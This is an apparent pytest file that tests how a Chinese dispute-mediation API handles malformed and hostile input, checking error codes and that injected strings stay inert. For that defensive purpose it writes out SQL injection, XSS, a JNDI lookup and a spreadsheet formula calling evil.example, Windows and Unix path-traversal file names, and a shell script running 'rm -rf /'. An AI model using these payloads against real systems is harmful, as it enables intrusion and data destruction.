"""The catalogue of bad input: one table, each row a request and what it must get back.

Every answer is the one error shape with a stable `code`, a Chinese `message` and, where one
field is at fault, that field; never a 500. Rows that are accepted (injection strings, path
traversal in file names) say what must hold for what was stored: read back byte for byte, inert
in exports, inside the file store.
"""

from __future__ import annotations

import base64
import io
import json
import os
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

import pytest

from tests.factories import bearer, dispute_payload, login, role_users

pytestmark = pytest.mark.badinput

CJK = re.compile(r"[\u4e00-\u9fff]")
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
INJECTIONS = [
    "'; DROP TABLE dispute; --",
    "1' OR '1'='1",
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    '=HYPERLINK("http://evil.example","点我")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@dataclass
class Row:
    """One request of the catalogue and the answer it must get."""

    id: str
    request: Callable  # (ctx) -> kwargs for client.open
    status: int
    code: str | None = None
    field: str | None = None
    then: Callable | None = None  # (ctx, response) -> None: what must hold afterwards


def _register(**overrides):
    def build(ctx):
        payload = dispute_payload(ctx["db"], ctx["cell"])
        for key, value in overrides.items():
            if callable(value):
                value(payload)
            else:
                payload[key] = value
        return {"method": "POST", "path": "/api/v1/disputes", "json": payload}

    return build


def _raw(method, path, data, content_type="application/json", **extra):
    def build(ctx):
        body = data(ctx) if callable(data) else data
        return {"method": method, "path": path, "data": body, "content_type": content_type, **extra}

    return build


def _set(path, value):
    """Set payload[a][b]… (ints index lists)."""

    def apply(payload):
        target = payload
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value

    return apply


def _nested(depth):
    return "[" * depth + "]" * depth


def _upload(filename, data=PNG, content_type="multipart/form-data"):
    def build(ctx):
        return {
            "method": "POST",
            "path": f"/api/v1/disputes/{ctx['case_id']}/attachments",
            "data": {"kind": "photo", "file": (io.BytesIO(data), filename)},
            "content_type": content_type,
        }

    return build


def _round(**track):
    def build(ctx):
        body = {
            "cell_code": ctx["cell"],
            "screened_at": (datetime.now(UTC) - timedelta(minutes=30)).isoformat(),
            "households_visited": 5,
            "key_areas": ["涉农问题"],
            "zero_report": True,
            "track": {"type": "LineString", "coordinates": [[120.24, 29.71], [120.25, 29.72]]}
            | {"crs": "gcj02"}
            | track,
        }
        return {"method": "POST", "path": "/api/v1/screening/rounds", "json": body}

    return build


# ------------------------------------------------------------------ what must hold afterwards


def _stored_inert(field):
    """The case file gives back exactly what was sent."""

    def then(ctx, r):
        sent = ctx["sent"]
        case = ctx["client"].get(f"/api/v1/disputes/{r.get_json()['id']}", headers=ctx["h"])
        assert case.headers["Content-Type"].startswith("application/json")
        assert case.headers["X-Content-Type-Options"] == "nosniff"
        body = case.get_json()
        if field == "description":
            assert body["description"] == sent["description"]
        else:
            assert [p["name"] for p in body["parties"]] == [p["name"] for p in sent["parties"]]

    return then


def _contained(expected_name):
    """The file is stored by checksum inside the store; the name kept is a bare file name."""

    def then(ctx, r):
        from flask import current_app

        att = r.get_json()
        name = att["filename"]
        assert name == expected_name or (expected_name is None and name.endswith("win.ini.png"))
        assert not re.search(r"[/\\\x00-\x1f\x7f]|\.\.", name), name
        root = os.path.realpath(current_app.config["ATTACHMENT_DIR"])
        path = os.path.realpath(os.path.join(root, att["sha256"][:2], att["sha256"][2:4]))
        assert path.startswith(root + os.sep)
        assert os.path.isfile(os.path.join(path, att["sha256"]))
        d = ctx["client"].get(
            f"/api/v1/disputes/{ctx['case_id']}/attachments/{att['id']}", headers=ctx["h"]
        )
        assert d.status_code == 200 and d.data == PNG
        disposition = d.headers["Content-Disposition"]
        assert ".." not in disposition and "/" not in disposition.split("filename", 1)[1]

    return then


def _exported_inert(ctx, r):
    """The narrative goes out in the workbook prefixed with ' (not a formula)."""
    from openpyxl import load_workbook

    x = ctx["client"].get(
        f"/api/v1/reports/monthly/reports/{ctx['report_id']}/export?format=xlsx",
        headers=ctx["vh"],
    )
    assert x.status_code == 200
    wb = load_workbook(io.BytesIO(x.data))
    texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
    hits = [t for t in texts if isinstance(t, str) and "HYPERLINK" in t]
    assert hits and all(t.startswith("'=") for t in hits), hits
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


# ------------------------------------------------------------------ the table

ROWS = [
    # malformed and mistyped JSON
    Row("malformed json", _raw("POST", "/api/v1/disputes", '{"location": '), 400, "malformed_json"),
    Row("json NaN", _raw("POST", "/api/v1/auth/login", '{"username": NaN}'), 400, "malformed_json"),
    Row(
        "json not utf-8",
        _raw("POST", "/api/v1/auth/login", b'{"username": "\xff"}'),
        400,
        "malformed_json",
    ),
    Row(
        "json array not object",
        _raw("POST", "/api/v1/disputes", "[1, 2]"),
        422,
        "validation_error",
        "_schema",
    ),
    Row(
        "wrong type: people_involved",
        _register(people_involved="many"),
        422,
        "validation_error",
        "people_involved",
    ),
    Row(
        "wrong type: lon",
        _register(location={"lon": "东经120度", "lat": 29.7, "crs": "gcj02"}),
        422,
        "validation_error",
        "location.lon",
    ),
    Row("wrong type: parties", _register(parties="张三"), 422, "validation_error", "parties"),
    Row("wrong type: amount", _register(amount="1e3"), 422, "validation_error", "amount"),
    Row("unknown field", _register(is_admin=True), 422, "validation_error", "is_admin"),
    Row(
        "integer overflow in body",
        _register(people_involved=10**30),
        422,
        "validation_error",
        "people_involved",
    ),
    # sizes and depth
    Row(
        "huge body (17 MB)",
        _raw("POST", "/api/v1/disputes", b"[" + b" " * (17 << 20) + b"]"),
        413,
        "payload_too_large",
    ),
    Row(
        "2 MB on a plain JSON endpoint",
        _raw("POST", "/api/v1/auth/login", json.dumps({"username": "x" * (2 << 20)})),
        413,
        "payload_too_large",
    ),
    Row(
        "deep nesting 100000",
        _raw("POST", "/api/v1/disputes", _nested(100_000)),
        400,
        "nesting_too_deep",
    ),
    Row(
        "deep nesting 40",
        _raw("POST", "/api/v1/sync/operations", _nested(40)),
        400,
        "nesting_too_deep",
    ),
    # coordinates and geometry
    Row(
        "swapped coordinates",
        _register(location={"lon": 29.71, "lat": 120.24, "crs": "gcj02"}),
        422,
        "coordinates_swapped",
        "location.lon",
    ),
    Row(
        "coordinates out of range",
        _register(location={"lon": 520.0, "lat": 29.7, "crs": "wgs84"}),
        422,
        "coordinates_out_of_range",
        "location.lon",
    ),
    Row(
        "unknown coordinate system",
        _register(location={"lon": 120.24, "lat": 29.71, "crs": "EPSG:3857"}),
        422,
        "unknown_crs",
        "location.crs",
    ),
    Row(
        "unknown crs on locate",
        lambda c: {"method": "GET", "path": "/api/v1/locate?lon=120.24&lat=29.71&crs=cgcs2000"},
        422,
        "unknown_crs",
        "crs",
    ),
    Row("invalid GeoJSON type", _round(type="Polygon"), 422, "invalid_track", "track.type"),
    Row(
        "invalid GeoJSON coordinates",
        _round(coordinates=[["a", "b"]]),
        422,
        "validation_error",
        "track.coordinates[0][0]",
    ),
    Row("GeoJSON with unknown crs", _round(crs="epsg:900913"), 422, "unknown_crs", "track.crs"),
    # identity numbers, phones, dates
    Row(
        "ID checksum wrong",
        _register(x=_set(["parties", 0, "id_number"], "330681199001011231")),
        422,
        "validation_error",
        "parties[0].id_number",
    ),
    Row(
        "ID birth date impossible",
        _register(x=_set(["parties", 0, "id_number"], "330681199002301234")),
        422,
        "validation_error",
        "parties[0].id_number",
    ),
    Row(
        "phone malformed",
        _register(x=_set(["parties", 1, "phone"], "12345")),
        422,
        "validation_error",
        "parties[1].phone",
    ),
    Row(
        "date in the future",
        _register(occurred_at=(datetime.now(UTC) + timedelta(days=2)).isoformat()),
        422,
        "invalid_date",
        "occurred_at",
    ),
    Row(
        "date before 1900",
        _register(occurred_at="1899-12-31T08:00:00+08:00"),
        422,
        "validation_error",
        "occurred_at",
    ),
    Row(
        "date without timezone",
        _register(occurred_at="2026-05-01T08:00:00"),
        422,
        "validation_error",
        "occurred_at",
    ),
    Row(
        "dates before 1900 in a query",
        lambda c: {"method": "GET", "path": "/api/v1/disputes?registered_from=0001-01-01"},
        422,
        "validation_error",
        "registered_from",
    ),
    Row(
        "date in year 9999 in a body",
        _register(occurred_at="9999-12-31T23:59:59+08:00"),
        422,
        "validation_error",
        "occurred_at",
    ),
    # strings
    Row(
        "control characters",
        _register(description="排水沟\x07堵塞\x1b[31m"),
        422,
        "validation_error",
        "description",
    ),
    Row(
        "NUL character",
        _raw("POST", "/api/v1/auth/login", '{"username": "gw\\u0000", "password": "x"}'),
        422,
        "validation_error",
        "username",
    ),
    Row(
        "NUL in a query",
        lambda c: {"method": "GET", "path": "/api/v1/disputes?cursor=a%00b"},
        422,
        "validation_error",
        "cursor",
    ),
    Row(
        "NUL in a path",
        lambda c: {"method": "GET", "path": "/api/v1/areas/330681%00"},
        404,
        "not_found",
    ),
    Row(
        "10,000 characters",
        _register(description="纠" * 10_000),
        422,
        "validation_error",
        "description",
    ),
    Row(
        "10,000-character name",
        _register(x=_set(["parties", 0, "name"], "张" * 10_000)),
        422,
        "validation_error",
        "parties[0].name",
    ),
    # injection strings: stored inert, escaped in exports
    *[
        Row(
            f"injection in description {i}",
            _register(description=s),
            201,
            then=_stored_inert("description"),
        )
        for i, s in enumerate(INJECTIONS)
    ],
    *[
        Row(
            f"injection in party name {i}",
            _register(x=_set(["parties", 0, "name"], s)),
            201,
            then=_stored_inert("parties"),
        )
        for i, s in enumerate(INJECTIONS)
    ],
    Row(
        "sql injection in a query",
        lambda c: {"method": "GET", "path": "/api/v1/disputes?area=330681'%20OR%20'1'%3D'1"},
        422,
        "validation_error",
        "area",
    ),
    Row(
        "sql injection in a path",
        lambda c: {"method": "GET", "path": "/api/v1/areas/330681'%20OR%20'1'%3D'1"},
        404,
        "area_not_found",
    ),
    Row(
        "formula injection in a report, exported",
        lambda c: {
            "method": "PATCH",
            "path": f"/api/v1/reports/monthly/reports/{c['report_id']}",
            "headers": c["vh"],
            "json": {"narrative": INJECTIONS[5]},
        },
        200,
        then=_exported_inert,
    ),
    # file names and contents
    Row(
        "path traversal in file name",
        _upload("../../../../etc/passwd.png"),
        201,
        then=_contained("passwd.png"),
    ),
    Row(
        "windows traversal in file name",
        _upload("..\\..\\windows\\win.ini.png"),
        201,
        then=_contained(None),
    ),
    Row(
        "control characters in file name",
        _upload("a\x01b\x1f\x7f.png"),
        201,
        then=_contained("ab.png"),
    ),
    Row(
        "file that is not what it says",
        _upload("photo.png", b"#!/bin/sh\nrm -rf /\n"),
        422,
        "unsupported_file_type",
        "file",
    ),
    Row("empty file", _upload("photo.png", b""), 422, "empty_file", "file"),
    # content types
    Row(
        "text/plain to a JSON endpoint",
        _raw("POST", "/api/v1/disputes", "location=1", "text/plain"),
        415,
        "unsupported_media_type",
    ),
    Row(
        "form to a JSON endpoint",
        _raw(
            "POST",
            "/api/v1/auth/login",
            "username=a&password=b",
            "application/x-www-form-urlencoded",
        ),
        415,
        "unsupported_media_type",
    ),
    Row(
        "JSON to an upload",
        lambda c: {
            "method": "POST",
            "path": f"/api/v1/disputes/{c['case_id']}/attachments",
            "json": {"file": "x"},
        },
        415,
        "unsupported_media_type",
    ),
    # ids and headers
    Row(
        "id not a UUID",
        lambda c: {"method": "GET", "path": "/api/v1/disputes/1%20OR%201=1"},
        404,
        "dispute_not_found",
    ),
    Row(
        "id beyond integer",
        lambda c: {"method": "GET", "path": "/api/v1/users/99999999999"},
        404,
        "not_found",
    ),
    Row(
        "If-Match not a version",
        lambda c: {
            "method": "POST",
            "path": f"/api/v1/disputes/{c['case_id']}/actions/accept",
            "headers": {"If-Match": "'; DROP TABLE dispute; --"},
            "json": {},
        },
        422,
        "invalid_if_match",
        "If-Match",
    ),
]


@pytest.fixture
def ctx(app, client, db_session):
    from mediation.reports.models import MonthlyReport
    from tests.test_authorization_matrix import _report

    c = role_users(app, db_session)
    c["db_session"] = db_session
    h = bearer(login(client, "t_gw")["access_token"])
    r = client.post("/api/v1/disputes", json=dispute_payload(db_session, c["cells"][0]), headers=h)
    assert r.status_code == 201, r.get_json()
    path, _ = _report()(c, "village_admin", "in")
    report = db_session.get(MonthlyReport, int(path.rsplit("/", 1)[1]))
    return {
        "db": db_session,
        "client": client,
        "cell": c["cells"][0],
        "h": h,
        "vh": bearer(login(client, "t_vil")["access_token"]),
        "case_id": r.get_json()["id"],
        "report_id": report.id,
    }


@pytest.mark.parametrize("row", ROWS, ids=lambda r: r.id)
def test_bad_input(app, client, ctx, row, caplog):
    kwargs = row.request(ctx)
    headers = {**ctx["h"], **kwargs.pop("headers", {})}
    ctx["sent"] = kwargs.get("json")
    r = client.open(kwargs.pop("path"), method=kwargs.pop("method"), headers=headers, **kwargs)
    body = r.get_json(silent=True)
    assert r.status_code == row.status, (r.status_code, r.get_data(as_text=True)[:500])
    if row.status >= 400:
        assert body is not None and set(body) <= {"code", "message", "fields", "details"}, body
        assert body["code"] == row.code, body
        assert CJK.search(body["message"]), body
        for messages in (body.get("fields") or {}).values():
            assert all(CJK.search(m) for m in messages), body
        if row.field:
            assert row.field in (body.get("fields") or {}), body
    if row.then:
        row.then(ctx, r)
    assert "unhandled error" not in caplog.text


def test_the_catalogue_covers_the_issue():
    """Every kind of bad input the issue lists has at least one row."""
    ids = " ".join(r.id for r in ROWS)
    for kind in (
        "malformed json",
        "wrong type",
        "huge body",
        "deep nesting",
        "GeoJSON",
        "swapped coordinates",
        "unknown coordinate system",
        "ID checksum",
        "in the future",
        "before 1900",
        "control characters",
        "10,000 characters",
        "sql injection",
        "injection in description",
        "path traversal",
        "to a JSON endpoint",
    ):
        assert kind in ids, kind


def test_inline_photo_that_is_not_base64(client, ctx):
    payload = dispute_payload(ctx["db"], ctx["cell"], photos=[{"content_base64": "%%%"}])
    r = client.post("/api/v1/disputes", json=payload, headers=ctx["h"])
    assert r.status_code == 422 and r.get_json()["code"] == "invalid_file"
    assert "photos[0]" in r.get_json()["fields"]
    good = base64.b64encode(PNG).decode()
    payload = dispute_payload(ctx["db"], ctx["cell"], photos=[{"content_base64": good}])
    assert client.post("/api/v1/disputes", json=payload, headers=ctx["h"]).status_code == 201
